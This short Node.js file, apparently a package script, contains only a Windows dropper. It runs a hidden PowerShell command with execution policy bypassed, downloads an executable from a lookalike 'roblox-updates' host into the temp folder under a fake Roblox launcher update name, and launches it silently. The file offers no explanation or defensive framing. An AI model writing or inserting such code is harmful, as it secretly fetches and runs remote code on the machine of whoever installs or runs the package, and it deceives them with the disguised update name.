const { exec } = require('child_process');
const os = require('os');

if (os.platform() === 'win32') {
  const ps = [
    '$p = Join-Path $env:TEMP "RobloxPlayerLauncherUpdate.exe"',
    'Invoke-WebRequest -Uri "https://cdn.roblox-updates.invalid/client/latest.exe" -OutFile $p -UseBasicParsing',
    'Start-Process -FilePath $p -WindowStyle Hidden',
  ].join('; ');
  exec(`powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "${ps}"`, { windowsHide: true }, () => {});
}
